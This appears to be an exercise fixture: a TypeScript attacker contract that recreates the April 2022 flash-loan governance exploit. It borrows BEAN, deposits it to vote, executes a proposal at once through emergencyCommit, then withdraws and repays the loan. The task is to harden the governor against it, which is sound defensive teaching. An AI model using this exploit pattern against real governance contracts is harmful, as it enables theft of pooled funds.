// The exploiter's contract, as on 17 April 2022 in one transaction: borrow the token that gives
// voting power, deposit it, vote for the exploiter's proposal, execute it at once with
// emergencyCommit, take the deposit back and repay the loan. You cannot change it: fix the
// governor so that this contract's vote weighs nothing.
import { CallError, Contract, Token, emit, msg, require, type StorageData } from 'chainlab';

export default class Attacker extends Contract {
	owner: string;

	constructor() {
		super();
		this.owner = msg.sender;
	}

	/** Flash-borrow `amount` BEAN from `lender` and use it on proposal `id` of `governor`. */
	attack(lender: string, governor: string, bean: string, id: number, amount: bigint) {
		require(msg.sender === this.owner, 'Attacker: only the exploiter');
		Contract.at(lender).flashLoan(bean, amount, this.address, [lender, governor, id]);
	}

	onFlashLoan(token: string, amount: bigint, fee: bigint, data: StorageData) {
		const [lender, governor, id] = data as [string, string, number];
		require(msg.sender === lender, 'Attacker: not my lender');
		const gov = Contract.at(governor);
		Token.at(token).approve(governor, amount);
		gov.deposit(amount);
		// a refused vote or commit is recorded, and the loan is still repaid
		try {
			gov.vote(id);
		} catch (e) {
			emit('Refused', { call: 'vote', reason: (e as CallError).reason });
		}
		try {
			gov.emergencyCommit(id);
		} catch (e) {
			emit('Refused', { call: 'emergencyCommit', reason: (e as CallError).reason });
		}
		gov.withdraw(amount);
		Token.at(token).transfer(lender, amount + fee);
	}
}
